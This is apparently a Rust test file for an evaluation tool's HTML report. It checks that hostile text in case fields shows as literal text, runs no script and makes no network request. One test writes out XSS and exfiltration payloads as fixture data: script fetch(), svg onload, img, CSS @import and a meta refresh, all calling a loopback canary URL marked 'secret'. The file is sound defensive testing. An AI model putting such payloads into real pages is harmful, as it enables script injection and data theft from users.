//! Hostile texts in every field, seen in a browser: the text shown is the text given, nothing runs, nobody is called.

use std::net::TcpListener;

use serde_json::{Value as Json, json};

use crate::binary::Bench;
use crate::browser::Browser;
use crate::sources::{RUNS, outside_with_program, scripted};

/// Opens every case of a page and keeps what is wrong with it: a text that is not what the data holds.
const LOOK: &str = r#"
window.faults = null;
const data = JSON.parse(document.getElementById('data').textContent);
const faults = [];
const same = (nodes, texts, what) => {
  const shown = [...nodes].map((one) => one.textContent);
  if (JSON.stringify(shown) !== JSON.stringify(texts)) faults.push(what + ': ' + JSON.stringify(shown).slice(0, 300) + ' for ' + JSON.stringify(texts).slice(0, 300));
};
const panel = document.getElementById('case');
const isOpen = (id) => {
  const title = document.getElementById('case-title');
  return title && title.textContent === id && panel.querySelector('.sides');
};
const look = (row, found) => {
  same(panel.querySelectorAll(':scope > .text'), found.asked.map((one) => one.text || '(empty)'), 'asked');
  const trials = found.sides.flat();
  const sides = [...panel.querySelectorAll('.side-by')];
  if (sides.length !== trials.length) faults.push('sides of ' + row[0]);
  sides.forEach((side, at) => {
    const trial = trials[at];
    const texts = (trial.why ? [trial.why] : []).concat(trial.texts.map((one) => one.text || '(empty)'));
    same(side.querySelectorAll(':scope > .text'), texts, 'said');
    same(side.querySelectorAll('.score bdi:not(.note)'), trial.scores.map((one) => one.scorer), 'scorers');
    const reasons = trial.scores.flatMap((one) => (one.reason ? [one.reason] : []).concat(one.said || []));
    same(side.querySelectorAll('.score > .text'), reasons.map((one) => one.text || '(empty)'), 'reasons');
    same(side.querySelectorAll('dd bdi'), trial.facts.map((one) => one[1]), 'facts');
  });
};
(async () => {
  for (const [nth, row] of data.index.cases.entries()) {
    location.hash = '#case=' + encodeURIComponent(row[0]);
    for (let tries = 0; tries < 2000 && !isOpen(row[0]); tries++) await new Promise((go) => setTimeout(go, 5));
    if (!isOpen(row[0])) faults.push('never opened: ' + row[0]);
    else if (!data.details[nth]) faults.push('not there: ' + row[0]);
    else look(row, data.details[nth]);
  }
  window.faults = faults;
})();
"#;

/// Opens a report, looks at every case of it, and gives the data of the page.
fn looked_at(browser: &Browser, bench: &Bench) -> Json {
    let to = [
        "report",
        "latest",
        "-q",
        "--runs-dir",
        RUNS,
        "--report",
        "html=report.html",
    ];
    bench.evenhand(&to).expect(0);
    browser.open("about:blank");
    browser.open_file(&bench.at("report.html"), "");
    browser.wait_until("!document.getElementById('cases-app').hidden");
    browser.script(LOOK, &[]);
    browser.wait_until("window.faults !== null");
    assert_eq!(browser.script("return window.faults", &[]), json!([]));
    for foreign in [
        "img",
        "iframe",
        "object",
        "embed",
        "form",
        "base",
        "video",
        "[onerror]",
        "[onmouseover]",
        "link:not([rel=icon])",
        "a[href^=javascript]",
    ] {
        assert_eq!(browser.count(foreign), 0, "{foreign}");
    }
    assert_eq!(browser.count("script"), 2);
    assert_eq!(browser.dialog(), None);
    assert_eq!(browser.console(), Vec::<String>::new());
    let loads = "return performance.getEntriesByType('resource').filter(one => !one.name.startsWith('data:')).length";
    assert_eq!(browser.script(loads, &[]), 0);
    browser.script(
        "return JSON.parse(document.getElementById('data').textContent)",
        &[],
    )
}

/// What the run holds of its cases: the questions, by id.
fn questions(bench: &Bench) -> Vec<(Json, Json)> {
    let runs = std::fs::read_dir(bench.at(RUNS)).expect("a folder of runs");
    let run = runs
        .map(|entry| entry.expect("an entry").path())
        .max()
        .expect("a run");
    let cases = std::fs::read_to_string(run.join("cases.jsonl")).expect("its cases");
    let rows = cases.lines().map(|line| {
        let row: Json = serde_json::from_str(line).expect("a case");
        (row["id"].clone(), row["input"].clone())
    });
    rows.collect()
}

/// The page's data holds every question as it was asked, or its beginning.
fn holds_every_question(data: &Json, bench: &Bench) {
    let listed = data["index"]["cases"].as_array().expect("a list");
    for (id, asked) in questions(bench) {
        let at = listed.iter().position(|one| one[0] == id);
        let shown = &data["details"][at.expect("every case is listed")]["asked"][0];
        let (shown, asked) = (shown["text"].as_str(), asked.as_str());
        let (shown, asked) = (shown.expect("a text"), asked.expect("a text"));
        assert!(
            asked.starts_with(shown) && (shown == asked || shown.chars().count() == 8_000),
            "{id}"
        );
    }
}

#[test]
fn names_questions_and_judgements_are_shown_as_they_are_and_run_nothing() {
    let Some(browser) = Browser::start() else {
        return;
    };
    for share in 0..4 {
        let bench = scripted(share);
        let ended = bench.evenhand(&["run", "suite.yaml", "-q", "--runs-dir", RUNS]);
        assert!([0, 5, 6, 100].contains(&ended.code()), "{}", ended.stderr);
        let data = looked_at(&browser, &bench);
        holds_every_question(&data, &bench);
    }
}

#[test]
fn what_endpoints_and_programs_say_is_shown_as_it_is_and_runs_nothing() {
    let Some(browser) = Browser::start() else {
        return;
    };
    let (bench, _server) = outside_with_program();
    bench.evenhand(&["run", "suite.yaml", "-q", "--runs-dir", RUNS]);
    let data = looked_at(&browser, &bench);
    holds_every_question(&data, &bench);
}

#[test]
fn an_image_or_a_link_in_an_answer_calls_nobody() {
    let Some(browser) = Browser::start() else {
        return;
    };
    let canary = TcpListener::bind("127.0.0.1:0").expect("loopback has a free port");
    canary.set_nonblocking(true).expect("it need not wait");
    let url = format!(
        "http://{}/?q=secret",
        canary.local_addr().expect("it is bound")
    );
    let text = format!(
        "![x]({url}) <img src=\"{url}\"> <link rel=stylesheet href=\"{url}\"> <style>@import '{url}'; body {{ background: url({url}) }}</style> \
         <script>window.owned = fetch('{url}')</script></script><svg onload=\"fetch('{url}')\"><image href=\"{url}\"/></svg> <meta http-equiv=refresh content=\"0;{url}\">"
    );
    let suite = json!({
        "version": 1, "suite": "canary", "seed": 1, "dataset": {"path": "cases.jsonl"},
        "targets": [{"id": "echo", "kind": "scripted", "answer": "{{ input }}", "model": text}],
        "scorers": [{"id": "same", "kind": "exact"}],
    });
    let bench = Bench::new(&suite.to_string());
    let id = format!("<img src={url}><script>fetch('{url}')</script>");
    let row = json!({"id": id, "input": text, "expected": text, "tags": [text]});
    bench.write("cases.jsonl", &format!("{row}\n"));
    bench
        .evenhand(&["run", "suite.yaml", "-q", "--runs-dir", RUNS])
        .expect(0);
    let data = looked_at(&browser, &bench);
    assert_eq!(data["details"][0]["asked"][0]["text"], text);
    assert_eq!(
        browser.script("return typeof window.owned", &[]),
        "undefined"
    );
    assert!(canary.accept().is_err(), "somebody came");
}
